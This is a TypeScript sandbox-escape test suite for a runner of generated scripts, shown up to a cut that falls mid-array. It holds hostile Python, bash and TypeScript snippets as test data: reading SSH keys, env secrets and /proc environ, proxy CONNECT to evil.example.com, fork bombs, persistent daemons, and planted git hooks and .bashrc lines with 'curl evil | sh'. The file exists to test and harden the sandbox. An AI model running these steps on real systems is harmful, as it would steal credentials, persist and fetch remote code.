/**
 * The escape suite: hostile scripts in Python, bash and TypeScript, each run through the real
 * runner (the SDK, real runtimes, the real sandbox backend), each asserting that the attempt
 * failed AND that the host is unchanged. A script that exits 0 having done what it tried is a
 * breach. The suite ends with `escape suite: N attacks, N blocked`.
 *
 * Hostile scripts reach the runner through an in-process generator, so the static checks (which
 * would refuse most of them before they are stored) are not what is tested here: the sandbox is.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { Capibara, type CapibaraOptions } from "../../src/capibara.ts";
import { CapibaraError, ExecError, PermissionError, ValidationError } from "../../src/errors.ts";
import type { Generator } from "../../src/generate/types.ts";
import type { Bundle, Language } from "../../src/schema.ts";
import { basename } from "node:path";
import { sha256 } from "../../src/_hash.ts";
import { acceptEdit } from "../../src/cli/accept.ts";
import { manualCommand } from "../../src/readme.ts";
import { buildSdist } from "../helpers/wheel.ts";
import { denoDirKey } from "../../src/runtimes/deno.ts";
import { platformBackend } from "../../src/sandbox/mod.ts";

/**
 * `CAPIBARA_ESCAPE_NO_SANDBOX=1` runs the Python and bash attacks, and the TypeScript attacks
 * only the OS layer stops (`osLayer`), with the OS sandbox switched off (TypeScript then runs under
 * Deno's flags alone), to show that the suite can fail: those attacks must then report breaches.
 */
const NO_SANDBOX = Deno.env.get("CAPIBARA_ESCAPE_NO_SANDBOX") === "1";
/** `CAPIBARA_ESCAPE_ONLY=<text>` runs only the attacks whose name holds the text. */
const ONLY = Deno.env.get("CAPIBARA_ESCAPE_ONLY");
const backend = platformBackend();
const OS_SANDBOX = backend !== undefined && (await backend.available()).ok;
if (!OS_SANDBOX) {
  console.warn(
    "SKIPPED: Python and bash escape tests need bubblewrap (apt-get install bubblewrap socat)",
  );
}

const CACHE = await Deno.makeTempDir({ prefix: "capibara_escape_cache_" });
const ROOT = await Deno.realPath(await Deno.makeTempDir({ prefix: "capibara_escape_" }));
globalThis.addEventListener("unload", () => {
  Deno.removeSync(CACHE, { recursive: true });
  Deno.removeSync(ROOT, { recursive: true });
});

// The host: a fake HOME with secrets, another project, and a service on loopback.
const HOME = join(ROOT, "home");
const OTHER = join(ROOT, "other-project");
const PROJECT = join(ROOT, "project");
const SSH_KEY = join(HOME, ".ssh", "id_rsa");
const SSH_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- hunter2";
const OTHER_SECRET = "other project's secret";
const ENV_SECRET = "sk-live-do-not-leak-0123456789";
await Deno.mkdir(join(HOME, ".ssh"), { recursive: true });
await Deno.writeTextFile(SSH_KEY, SSH_SECRET);
await Deno.mkdir(OTHER, { recursive: true });
await Deno.writeTextFile(join(OTHER, "secret.txt"), OTHER_SECRET);
await Deno.mkdir(join(PROJECT, "data"), { recursive: true });
await Deno.mkdir(join(PROJECT, ".git", "hooks"), { recursive: true });
await Deno.writeTextFile(join(PROJECT, ".git", "config"), "[core]\n");
await Deno.writeTextFile(join(PROJECT, "data", "in.txt"), "input data\n");
await Deno.symlink(join(OTHER, "secret.txt"), join(PROJECT, "data", "link.txt"));
await Deno.mkdir(join(PROJECT, "nested-repo", ".git"), { recursive: true });

let serviceHits = 0;
const service = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
  serviceHits++;
  return new Response("host service says hi");
});
const SERVICE_PORT = service.addr.port;
globalThis.addEventListener("unload", () => void service.shutdown());

/** The attacks, in order; one test runs them all as steps and counts them itself. */
const suite: Deno.TestStepDefinition[] = [];

function fixedGenerator(bundle: Bundle): Generator {
  return {
    kind: "escape-test",
    generate() {
      return Promise.resolve({ bundle, model: "hostile", attempts: 1 });
    },
  };
}

/** A Python script: `body` sets `breached = True` (and `detail`) when the attack worked. */
function py(body: string): string {
  const indented = body.split("\n").map((l) => "    " + l).join("\n");
  return `import json, os, sys
ctx = {}
if "--context" in sys.argv:
    value = sys.argv[sys.argv.index("--context") + 1]
    ctx = json.load(open(value[1:])) if value.startswith("@") else json.loads(value)
breached = False
detail = ""
artifacts = []
try:
${indented}
except BaseException as exc:
    detail = "blocked: " + repr(exc)[:300]
print(json.dumps({"status": "ok", "artifacts": artifacts, "output": {"breached": breached, "detail": detail}, "raw": {}}))
`;
}

/** A bash script: `body` sets `breached=1` when the attack worked. */
function sh(body: string, artifacts: string[] = []): string {
  return `breached=0
detail=""
${body}
if [ "$breached" = 1 ]; then b=true; else b=false; fi
printf '{"status":"ok","artifacts":${
    JSON.stringify(artifacts)
  },"output":{"breached":%s,"detail":"%s"},"raw":{}}\\n' "$b" "$(printf %s "$detail" | tr -d '"\\\\' | head -c 200)"
`;
}

/** A TypeScript script: `body` sets `breached = true` when the attack worked. */
function ts(body: string): string {
  return `let breached = false;
let detail = "";
let artifacts: string[] = [];
try {
${body}
} catch (error) {
  detail = "blocked: " + String(error).slice(0, 300);
}
console.log(JSON.stringify({ status: "ok", artifacts, output: { breached, detail }, raw: {} }));
`;
}

interface Attack {
  name: string;
  language: Language;
  script: string;
  context?: Record<string, unknown>;
  needs?: { network?: string[]; env?: string[] };
  allow?: CapibaraOptions["allow"];
  timeout?: number;
  /** Errors that count as blocked (default: any Capibara error). */
  blockedBy?: (new (...args: never[]) => CapibaraError)[];
  /** Host-side check that nothing changed; throws when something did. */
  hostUnchanged?: () => Promise<void>;
  /** For granted cases: what the result must be. */
  granted?: (output: Record<string, unknown>) => void;
  /** A TypeScript attack only the OS sandbox stops (Deno's flags alone let it through). */
  osLayer?: boolean;
  /** Runs first (an earlier run that plants something for this one). */
  before?: () => Promise<void>;
  /** Text that must appear neither in the output nor in the error (a secret's bytes). */
  leaks?: string[];
  /** The script's pinned requirements (default none). */
  requirements?: string[];
  /** The project the run happens in (default the shared one). */
  project?: string;
  /** Options of the instance that replace the suite's. */
  options?: Partial<CapibaraOptions>;
  /**
   * What the attack goes through, in place of `cb.run()` (e.g. `capibara accept` of a hand edit);
   * returns the script's output, if it is seen.
   */
  via?: (cb: Capibara, prompt: string) => Promise<Record<string, unknown> | undefined>;
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

/** Live processes whose command line matches, after giving killed ones up to 3 s to go. */
async function processesMatching(pattern: string): Promise<string[]> {
  let found: string[] = [];
  for (let attempt = 0; attempt < 30; attempt++) {
    const out = await new Deno.Command("pgrep", { args: ["-af", pattern], stdout: "piped" })
      .output();
    found = new TextDecoder().decode(out.stdout).split("\n").filter((l) =>
      l.trim() !== "" && !l.includes("pgrep")
    );
    if (found.length === 0) return found;
    await new Promise((r) => setTimeout(r, 100));
  }
  return found;
}

/** A runner in `project` whose generator always replies with `a`'s script. */
function capibaraFor(a: Attack, project = a.project ?? PROJECT): Capibara {
  const bundle: Bundle = {
    language: a.language,
    script: a.script,
    requirements: a.requirements ?? [],
    outputs: {},
    aliases: {},
    needs: { network: a.needs?.network ?? [], env: a.needs?.env ?? [] },
    readme: "",
  };
  return new Capibara({
    root: project,
    cwd: project,
    cacheDir: CACHE,
    generator: fixedGenerator(bundle),
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      HOME,
      SECRET_TOKEN: ENV_SECRET,
      GRANTED_VAR: "granted-value",
    },
    timeout: a.timeout ?? 30,
    memoryBytes: 256 * 1024 ** 2,
    maxProcesses: 64,
    // The staging bounds proven with smaller values than the defaults (1 GiB, 10,000 files).
    maxOutputDiskBytes: 128 * 1024 ** 2,
    maxOutputFiles: 2_000,
    allow: a.allow,
    sandbox: !(NO_SANDBOX && (a.language !== "typescript" || a.osLayer)),
    warn: () => {},
    ...a.options,
  });
}

function attack(a: Attack): void {
  const needsOs = a.language !== "typescript";
  suite.push({
    name: `escape: ${a.language}: ${a.name}`,
    ignore: (needsOs || a.osLayer === true) && !OS_SANDBOX,
    sanitizeOps: false,
    sanitizeResources: false,
    async fn() {
      await a.before?.();
      const cb = capibaraFor(a);
      let output: Record<string, unknown> | undefined;
      let error: unknown;
      const prompt = `escape test: ${a.language}: ${a.name}`;
      try {
        output = a.via ? await a.via(cb, prompt) : (await cb.run(prompt, {
          context: a.context ?? {},
          language: a.language,
        })).output;
      } catch (e) {
        error = e;
      }
      const seen = JSON.stringify(output ?? {}) + String(error) +
        JSON.stringify(error instanceof CapibaraError ? error.details ?? {} : {});
      for (const secret of a.leaks ?? []) {
        assert.ok(!seen.includes(secret), `BREACH: the result holds ${JSON.stringify(secret)}`);
      }
      if (a.granted) {
        assert.equal(error, undefined, `granted case failed: ${error}`);
        a.granted(output!);
      } else if (error !== undefined) {
        const kinds = a.blockedBy ?? [CapibaraError];
        assert.ok(
          kinds.some((k) => error instanceof k),
          `unexpected failure: ${error instanceof Error ? error.stack : error}`,
        );
      } else {
        assert.equal(output?.breached, false, `BREACH: ${JSON.stringify(output)}`);
      }
      await a.hostUnchanged?.();
    },
  });
}

// --- network (the one granted case comes last: until then the service must see no request) ----
for (
  const [language, script] of [
    [
      "python",
      py(`import socket
s = socket.create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
breached = b"host service" in s.recv(1000)`),
    ],
    [
      "bash",
      sh(
        `if exec 3<>/dev/tcp/127.0.0.1/${SERVICE_PORT}; then printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; grep -q "host service" <&3 && breached=1; fi`,
      ),
    ],
    [
      "typescript",
      ts(`const r = await fetch("http://127.0.0.1:${SERVICE_PORT}/");
breached = (await r.text()).includes("host service");`),
    ],
  ] as const
) {
  attack({
    name: "connect to a host service on loopback",
    language,
    script,
    hostUnchanged() {
      assert.equal(serviceHits, 0, "the host service was reached");
      return Promise.resolve();
    },
  });
}

attack({
  name: "DNS lookup",
  language: "python",
  script: py(`import socket
breached = len(socket.getaddrinfo("registry.npmjs.org", 443)) > 0`),
});
attack({
  name: "DNS lookup",
  language: "bash",
  script: sh(`getent hosts registry.npmjs.org >/dev/null 2>&1 && breached=1`),
});
attack({
  name: "DNS lookup",
  language: "typescript",
  script: ts(`breached = (await Deno.resolveDns("registry.npmjs.org", "A")).length > 0;`),
});
attack({
  name: "reach a non-granted host through the proxy",
  language: "python",
  needs: { network: ["api.granted.test"] },
  allow: { network: ["api.granted.test"] },
  script: py(`import urllib.request
for url in ["http://evil.example.com/", "http://127.0.0.1:${SERVICE_PORT}/", "http://granted.test/"]:
    try:
        urllib.request.urlopen(url, timeout=5).read()
        breached = True
        detail = url
    except Exception as exc:
        detail += " " + repr(exc)[:80]`),
  hostUnchanged() {
    assert.equal(serviceHits, 0, "the host service was reached");
    return Promise.resolve();
  },
});
attack({
  name: "reach a non-granted host with curl through the proxy (CONNECT)",
  language: "bash",
  needs: { network: ["api.granted.test"] },
  allow: { network: ["api.granted.test"] },
  script: sh(
    `if command -v curl >/dev/null; then curl -sf --max-time 5 https://evil-granted.test/ >/dev/null && breached=1; fi
exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT evil.example.com:443 HTTP/1.1\\r\\nHost: evil.example.com:443\\r\\n\\r\\n' >&3 && head -1 <&3 | grep -q " 200" && breached=1`,
  ),
});
attack({
  name: "a granted host through the proxy still works",
  language: "python",
  needs: { network: [`127.0.0.1:${SERVICE_PORT}`] },
  allow: { privateNetwork: [`127.0.0.1:${SERVICE_PORT}`] },
  script: py(`import urllib.request
body = urllib.request.urlopen("http://127.0.0.1:${SERVICE_PORT}/", timeout=10).read().decode()
detail = body`),
  granted(o) {
    assert.equal(o.detail, "host service says hi");
  },
});

// --- files -----------------------------------------------------------------------------------
for (
  const [language, script] of [
    [
      "python",
      py(`detail = open(${JSON.stringify(SSH_KEY)}).read()\nbreached = "hunter2" in detail`),
    ],
    ["bash", sh(`detail=$(cat ${SSH_KEY} 2>&1); case "$detail" in *hunter2*) breached=1;; esac`)],
    [
      "typescript",
      ts(
        `detail = Deno.readTextFileSync(${
          JSON.stringify(SSH_KEY)
        }); breached = detail.includes("hunter2");`,
      ),
    ],
  ] as const
) {
  attack({ name: "read ~/.ssh/id_rsa of the real HOME", language, script });
}
attack({
  name: "read ~/.ssh via $HOME and expanduser",
  language: "python",
  script: py(`p = os.path.expanduser("~/.ssh/id_rsa")
detail = p
breached = os.path.exists(p) and "hunter2" in open(p).read()`),
});
for (
  const [language, script] of [
    [
      "python",
      py(
        `breached = ${JSON.stringify(OTHER_SECRET)} in open(${
          JSON.stringify(join(OTHER, "secret.txt"))
        }).read()`,
      ),
    ],
    ["bash", sh(`grep -q "secret" ${join(OTHER, "secret.txt")} 2>/dev/null && breached=1`)],
    [
      "typescript",
      ts(
        `breached = Deno.readTextFileSync(${
          JSON.stringify(join(OTHER, "secret.txt"))
        }).includes("secret");`,
      ),
    ],
  ] as const
) {
  attack({ name: "read another project's file", language, script });
}

const PLANTED = join(OTHER, "planted.txt");
const noPlant = async () =>
  assert.equal(await exists(PLANTED), false, "a file was planted outside");
for (
  const [language, script] of [
    ["python", py(`open(${JSON.stringify(PLANTED)}, "w").write("x")\nbreached = True`)],
    ["bash", sh(`echo x > ${PLANTED} 2>/dev/null && breached=1`)],
    ["typescript", ts(`Deno.writeTextFileSync(${JSON.stringify(PLANTED)}, "x"); breached = true;`)],
  ] as const
) {
  attack({
    name: "write outside the outputs",
    language,
    script,
    context: { output: "out/result.txt" },
    hostUnchanged: noPlant,
  });
}
attack({
  name: "write into the workdir when only out/ is writable",
  language: "python",
  context: { output: "out/result.txt" },
  script: py(`open("sneaky.txt", "w").write("x")\nbreached = True`),
  hostUnchanged: async () => assert.equal(await exists(join(PROJECT, "sneaky.txt")), false),
});

const ranMarker = join(ROOT, "ran-marker");
const neverRan = async () => assert.equal(await exists(ranMarker), false, "the script ran");
for (
  const [name, context] of [
    ["a ../ context path", { input: "../other-project/secret.txt" }],
    ["an absolute context path outside", { input: join(OTHER, "secret.txt") }],
    ["a symlink in the workdir pointing out", { input: "data/link.txt" }],
    ["a ~ context path", { input: "~/.ssh/id_rsa" }],
    ["a nested ../ output path", { job: { output: "out/../../other-project/x.txt" } }],
  ] as const
) {
  attack({
    name: `refused before running: ${name}`,
    language: "python",
    context,
    script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
    blockedBy: [ValidationError],
    hostUnchanged: neverRan,
  });
}
attack({
  name: "report an artifact outside the outputs",
  language: "python",
  context: { output: "out/result.txt" },
  script: py(`artifacts = ["../other-project/secret.txt"]`),
  blockedBy: [ValidationError],
});

// --- secrets ---------------------------------------------------------------------------------
for (
  const [language, script] of [
    ["python", py(`detail = os.environ.get("SECRET_TOKEN", "")\nbreached = "sk-live" in detail`)],
    ["bash", sh(`[ -n "\${SECRET_TOKEN:-}" ] && breached=1`)],
    ["typescript", ts(`breached = (Deno.env.get("SECRET_TOKEN") ?? "").includes("sk-live");`)],
  ] as const
) {
  attack({ name: "read an env secret that was not granted", language, script });
}
attack({
  name: "read secrets from /proc/1/environ and the parent's environ",
  language: "python",
  script: py(`found = ""
for pid in ["1", str(os.getppid()), "self"]:
    try:
        found += open(f"/proc/{pid}/environ", "rb").read().decode(errors="ignore")
    except Exception:
        pass
breached = "sk-live" in found`),
});
attack({
  name: "a granted env var is passed",
  language: "python",
  needs: { env: ["GRANTED_VAR"] },
  allow: { env: ["GRANTED_VAR"] },
  script: py(
    `detail = os.environ.get("GRANTED_VAR", "") + "|" + os.environ.get("SECRET_TOKEN", "")`,
  ),
  granted(o) {
    assert.equal(o.detail, "granted-value|");
  },
});
attack({
  name: "a need that was not granted stops the run",
  language: "python",
  needs: { env: ["SECRET_TOKEN"] },
  script: py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`),
  blockedBy: [PermissionError],
  hostUnchanged: neverRan,
});

// --- limits ----------------------------------------------------------------------------------
attack({
  name: "fork bomb (bounded: tries 5,000 processes)",
  language: "python",
  timeout: 60,
  script: py(`import subprocess
procs = []
for i in range(5000):
    try:
        procs.append(subprocess.Popen(["sleep", "20"]))
    except OSError as exc:
        detail = f"stopped at {i}: {exc!r}"
        break
breached = len(procs) >= 5000
for p in procs:
    p.kill()`),
  hostUnchanged: async () => assert.deepEqual(await processesMatching("^sleep 20$"), []),
});
attack({
  name: "fork bomb (bounded: tries 5,000 processes)",
  language: "bash",
  timeout: 60,
  // perl forks: bash itself retries a refused fork for about 15 s before it gives up.
  script: sh(
    `started=$(perl -e 'my @k; for (1..5000) { my $p = fork; last unless defined $p; if (!$p) { exec "sleep", "21" } push @k, $p } kill "KILL", @k; waitpid($_, 0) for @k; print scalar @k')
[ "\${started:-0}" -ge 5000 ] && breached=1
detail="started $started"`,
  ),
  hostUnchanged: async () => assert.deepEqual(await processesMatching("^sleep 21$"), []),
});
attack({
  name: "memory bomb (4x the limit)",
  language: "python",
  script: py(`blocks = []
for _ in range(64):
    blocks.append(bytearray(16 * 1024 * 1024))
breached = True
detail = "allocated 1 GiB"`),
});
attack({
  name: "endless loop (timeout, then no process left)",
  language: "python",
  timeout: 2,
  script: py(`import time
while True:
    time.sleep(0.01)  # capibara-endless-loop-marker`),
  blockedBy: [ExecError],
  hostUnchanged: async () => {
    await new Promise((r) => setTimeout(r, 200));
    assert.deepEqual(await processesMatching("escape test: python: endless"), []);
    assert.deepEqual(await processesMatching(`${PROJECT}/.capibara/scripts/.*script.py`), []);
  },
});
attack({
  name: "endless loop (timeout)",
  language: "bash",
  timeout: 2,
  script: sh(`while :; do :; done`),
  blockedBy: [ExecError],
});
attack({
  name: "flood stdout (64 MiB)",
  language: "python",
  script: py(`chunk = "x" * (1024 * 1024) + "\\n"
for _ in range(64):
    sys.stdout.write(chunk)
breached = True`),
  blockedBy: [ExecError],
});
attack({
  name: "spawn a daemon that outlives the run",
  language: "python",
  script: py(`import subprocess
subprocess.Popen(["setsid", "sleep", "31337"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "31338"])
    os._exit(0)`),
  hostUnchanged: async () => {
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(await processesMatching("sleep 3133[78]"), [], "a daemon survived the run");
  },
});
attack({
  name: "spawn a daemon that outlives the run",
  language: "bash",
  script: sh(`setsid nohup sleep 31339 >/dev/null 2>&1 &
disown`),
  hostUnchanged: async () => {
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(await processesMatching("sleep 31339"), [], "a daemon survived the run");
  },
});

// --- the cache and the repository -------------------------------------------------------------
const storeHashes = async () => {
  const out: Record<string, string> = {};
  for await (const fp of Deno.readDir(join(PROJECT, ".capibara", "scripts"))) {
    for await (const f of Deno.readDir(join(PROJECT, ".capibara", "scripts", fp.name))) {
      out[`${fp.name}/${f.name}`] = await Deno.readTextFile(
        join(PROJECT, ".capibara", "scripts", fp.name, f.name),
      );
    }
  }
  return out;
};
for (
  const [language, script] of [
    [
      "python",
      py(`import glob
for path in glob.glob(${JSON.stringify(PROJECT)} + "/.capibara/scripts/*/script.py"):
    try:
        with open(path, "a") as fh:
            fh.write("\\n# ow" + "ned\\n")
        breached = True
    except OSError as exc:
        detail = repr(exc)`),
    ],
    [
      "bash",
      sh(
        `for f in ${PROJECT}/.capibara/scripts/*/script.sh ${PROJECT}/.capibara/scripts/*/script.py; do echo "# ow""ned" >> "$f" 2>/dev/null && breached=1; done`,
      ),
    ],
  ] as const
) {
  attack({
    name: "modify its own cached script (workdir writable)",
    language,
    context: { output: "result.txt" },
    script,
    hostUnchanged: async () => {
      for (const [name, text] of Object.entries(await storeHashes())) {
        assert.ok(!text.includes("# owned"), `${name} was modified`);
      }
    },
  });
}
attack({
  name: "plant a git hook and change .git/config (workdir writable)",
  language: "python",
  context: { output: "result.txt" },
  script: py(
    `for path, text in [(".git/hooks/pre-commit", "#!/bin/sh\\ncurl evil"), (".git/config", "[core]\\nfsmonitor = evil")]:
    try:
        with open(path, "a") as fh:
            fh.write(text)
        breached = True
    except OSError as exc:
        detail += repr(exc)`,
  ),
  hostUnchanged: async () => {
    assert.equal(await exists(join(PROJECT, ".git", "hooks", "pre-commit")), false);
    assert.equal(await Deno.readTextFile(join(PROJECT, ".git", "config")), "[core]\n");
  },
});
attack({
  name: "plant a shell start-up file in the writable workdir's HOME-like files",
  language: "bash",
  context: { output: "result.txt" },
  script: sh(
    `echo 'curl evil | sh' >> ${PROJECT}/.bashrc 2>/dev/null && [ -s ${PROJECT}/.bashrc ] && breached=0
echo 'curl evil | sh' >> ${HOME}/.bashrc 2>/dev/null && breached=1`,
  ),
  hostUnchanged: async () => assert.equal(await exists(join(HOME, ".bashrc")), false),
});

// --- TypeScript: Deno permissions --------------------------------------------------------------
attack({
  name: "Deno.Command to run a shell",
  language: "typescript",
  script: ts(`const out = new Deno.Command("sh", { args: ["-c", "echo pwned"] }).outputSync();
breached = new TextDecoder().decode(out.stdout).includes("pwned");`),
});
attack({
  name: "Deno.run (removed API) and a spawn of deno -A",
  language: "typescript",
  script: ts(`// deno-lint-ignore no-explicit-any
const run = (Deno as any).run;
if (run) { run({ cmd: ["sh", "-c", "true"] }); breached = true; }
const out = new Deno.Command(Deno.execPath(), { args: ["eval", "console.log('escaped')"] }).outputSync();
breached = breached || new TextDecoder().decode(out.stdout).includes("escaped");`),
});
attack({
  name: "FFI: Deno.dlopen of libc",
  language: "typescript",
  script: ts(`const lib = Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });
breached = typeof lib.symbols.getpid() === "number";`),
});
attack({
  name: "--allow-all tricks: permission requests and env/sys probes",
  language: "typescript",
  script: ts(`const asks = ["run", "ffi", "sys", "env", "net"] as const;
for (const name of asks) {
  const status = await Deno.permissions.request({ name } as Deno.PermissionDescriptor);
  if (status.state === "granted") { breached = true; detail += name + " "; }
}
try { Deno.hostname(); breached = true; detail += "sys"; } catch { /* denied */ }`),
});
attack({
  name: "write into .capibara/ through a writable workdir",
  language: "typescript",
  context: { output: "result.txt" },
  script: ts(`for (const e of Deno.readDirSync(${JSON.stringify(PROJECT)} + "/.capibara/scripts")) {
  try {
    Deno.writeTextFileSync(${
    JSON.stringify(PROJECT)
  } + "/.capibara/scripts/" + e.name + "/script.ts", "// ow" + "ned", { append: true });
    breached = true;
  } catch (err) { detail = String(err); }
}`),
  hostUnchanged: async () => {
    for (const [name, text] of Object.entries(await storeHashes())) {
      assert.ok(!text.includes("// owned"), `${name} was modified`);
    }
  },
});

// --- kernel surfaces the seccomp filter closes -----------------------------------------------
attack({
  name: "read the host's session keyring through ctypes reached via __builtins__",
  language: "python",
  script: py(
    `ct = __builtins__.__import__("ctypes") if hasattr(__builtins__, "__import__") else __builtins__["__import__"]("ctypes")
libc = ct.CDLL(None, use_errno=True)
nr = 250 if os.uname().machine == "x86_64" else 219
key = libc.syscall(nr, 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
breached = key >= 0
detail = "keyring %d errno %d" % (key, ct.get_errno())`,
  ),
});
attack({
  name: "io_uring, userfaultfd and a netlink audit socket",
  language: "python",
  script: py(`import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
uring = libc.syscall(425, 1, ctypes.create_string_buffer(120))
uffd = libc.syscall(323 if x86 else 282, 0)
try:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).close()
    audit = True
except OSError:
    audit = False
breached = uring >= 0 or uffd >= 0 or audit
detail = "io_uring %d userfaultfd %d audit %s" % (uring, uffd, audit)`),
});
attack({
  name: "read the host's session keyring through perl's syscall()",
  language: "bash",
  script: sh(
    `nr=250; [ "$(uname -m)" = x86_64 ] || nr=219
k=$(perl -e "print syscall($nr, 0, -3, 0)" 2>/dev/null)
detail="keyring $k"
case "$k" in ''|-*) ;; *) breached=1 ;; esac`,
  ),
});

// --- TypeScript: the module graph, the OS layer and Deno's own state ----------------------------
const PROJECT_PRIVATE = "project-private-note";
await Deno.writeTextFile(join(PROJECT, "private.txt"), PROJECT_PRIVATE);
attack({
  name: "a static text import of ~/.ssh/id_rsa",
  language: "typescript",
  script: `import key from ${JSON.stringify(SSH_KEY)} with { type: "text" };\n` +
    ts(`detail = key;\nbreached = key.includes("hunter2");`),
  blockedBy: [PermissionError],
  leaks: ["hunter2"],
});
attack({
  name: "a relative ../../ import of a project file the context does not name",
  language: "typescript",
  // The entry lives in <project>/.capibara/scripts/<fingerprint>/.
  script: `import note from "../../../private.txt" with { type: "text" };\n` +
    ts(`detail = note;\nbreached = note.includes(${JSON.stringify(PROJECT_PRIVATE)});`),
  blockedBy: [PermissionError],
  leaks: [PROJECT_PRIVATE],
});
attack({
  name: "a literal dynamic import of ~/.ssh/id_rsa as bytes",
  language: "typescript",
  script: ts(`const mod = await import(${JSON.stringify(SSH_KEY)}, { with: { type: "bytes" } });
detail = new TextDecoder().decode(mod.default);
breached = detail.includes("hunter2");`),
  blockedBy: [PermissionError],
  leaks: ["hunter2"],
});

// A first run (Python, in the OS sandbox) plants symlinks in its output folder; a TypeScript run
// writing to the same folder follows them: Deno checks the paths as written.
const LINKED = join(PROJECT, "linked");
const TS_PLANTED = join(OTHER, "planted-by-typescript.txt");
attack({
  name: "follow symlinks an earlier run planted in its output folder",
  language: "typescript",
  osLayer: true,
  context: { output: "linked/result.txt" },
  before: async () => {
    // Planted on the host: copy-out no longer lets a run plant a symlink in the project, but a
    // cloned repository can carry one.
    await Deno.mkdir(LINKED, { recursive: true });
    await Deno.symlink(SSH_KEY, join(LINKED, "key"));
    await Deno.symlink(OTHER, join(LINKED, "other"));
    assert.ok((await Deno.lstat(join(LINKED, "key"))).isSymlink, "the first run planted nothing");
  },
  script: ts(`try {
  detail = Deno.readTextFileSync("linked/key");
  breached = detail.includes("hunter2");
} catch (error) { detail = String(error); }
Deno.writeTextFileSync("linked/other/planted-by-typescript.txt", "x");
breached = true;`),
  leaks: ["hunter2"],
  hostUnchanged: async () => {
    assert.equal(await exists(TS_PLANTED), false, "a file was written through the symlink");
  },
});

/** Every file below `dir` whose bytes hold `text`. */
async function filesHolding(dir: string, text: string): Promise<string[]> {
  const found: string[] = [];
  const needle = new TextEncoder().encode(text);
  const holds = (bytes: Uint8Array) => {
    outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
      for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
      return true;
    }
    return false;
  };
  for await (const entry of Deno.readDir(dir)) {
    const path = join(dir, entry.name);
    if (entry.isDirectory) found.push(...await filesHolding(path, text));
    else if (entry.isFile && holds(await Deno.readFile(path))) found.push(path);
  }
  return found;
}

// Another project's TypeScript entry, run first: its source must leave no trace in the shared
// cache, and this project's script must not find it there.
const OTHER_EMIT = "other-project-emitted-source-0xC0FFEE";
const emptySetDir = join(CACHE, "deno", await denoDirKey([]));
attack({
  name: "read another project's emitted script source from the shared DENO_DIR",
  language: "typescript",
  before: async () => {
    const other = join(ROOT, "other-ts-project");
    await Deno.mkdir(other, { recursive: true });
    await capibaraFor({
      name: "the other project's script",
      language: "typescript",
      script: ts(`const secret: string = ${JSON.stringify(OTHER_EMIT)};\ndetail = secret;`),
    }, other).run("escape test: the other project's TypeScript script", {
      language: "typescript",
    });
  },
  script: ts(`const walk = (dir: string): string[] => {
  const out: string[] = [];
  for (const e of Deno.readDirSync(dir)) {
    const path = dir + "/" + e.name;
    if (e.isDirectory) out.push(...walk(path));
    else if (e.isFile) out.push(path);
  }
  return out;
};
for (const path of walk(${JSON.stringify(emptySetDir)})) {
  try {
    const text = new TextDecoder().decode(Deno.readFileSync(path));
    if (text.includes(${
    JSON.stringify(OTHER_EMIT.slice(0, 20))
  })) { breached = true; detail = path; }
  } catch { /* unreadable */ }
}`),
  hostUnchanged: async () => {
    assert.deepEqual(await filesHolding(join(CACHE, "deno"), OTHER_EMIT), []);
  },
});
const LOCAL_STORAGE = {
  name: "keep localStorage across runs",
  language: "typescript" as const,
  script: ts(`const before = localStorage.getItem("capibara-escape");
localStorage.setItem("capibara-escape", "kept-from-an-earlier-run");
breached = before === "kept-from-an-earlier-run";
detail = String(before);`),
};
attack({
  ...LOCAL_STORAGE,
  // The same entry ran once before: what it stored must be gone.
  before: async () => {
    await capibaraFor(LOCAL_STORAGE).run(`escape test: typescript: ${LOCAL_STORAGE.name}`, {
      language: "typescript",
    });
  },
  hostUnchanged: async () => {
    assert.deepEqual(await filesHolding(CACHE, "kept-from-an-earlier-run"), []);
  },
});
// --- the proxy decides on resolved addresses: an exact grant is no way to loopback -------------
/** A service on loopback that counts the connections it accepts. */
let privateHits = 0;
const privateService = Deno.listen({ hostname: "127.0.0.1", port: 0 });
const PRIVATE_PORT = privateService.addr.port;
(async () => {
  for await (const conn of privateService) {
    privateHits++;
    (async () => {
      try {
        await conn.read(new Uint8Array(4096));
        const body = "private service says hi\n";
        await conn.write(
          new TextEncoder().encode(
            `HTTP/1.0 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
          ),
        );
      } catch {
        // the client went away
      } finally {
        conn.close();
      }
    })();
  }
})().catch(() => {});
globalThis.addEventListener("unload", () => privateService.close());

function privateUnreached(): Promise<void> {
  assert.equal(privateHits, 0, "the loopback service was reached");
  return Promise.resolve();
}

/** Python fetching `url` the way a script would (urllib honours the proxy variables). */
function pyFetch(url: string): string {
  return py(`import urllib.request
try:
    body = urllib.request.urlopen(${JSON.stringify(url)}, timeout=5).read()
    breached = b"private service" in body
    detail = body.decode(errors="replace")[:80]
except Exception as exc:
    detail = repr(exc)[:200]`);
}

for (
  const [grant, url] of [
    [`127.0.0.1:${PRIVATE_PORT}`, `http://127.0.0.1:${PRIVATE_PORT}/`],
    [`localhost:${PRIVATE_PORT}`, `http://localhost:${PRIVATE_PORT}/`],
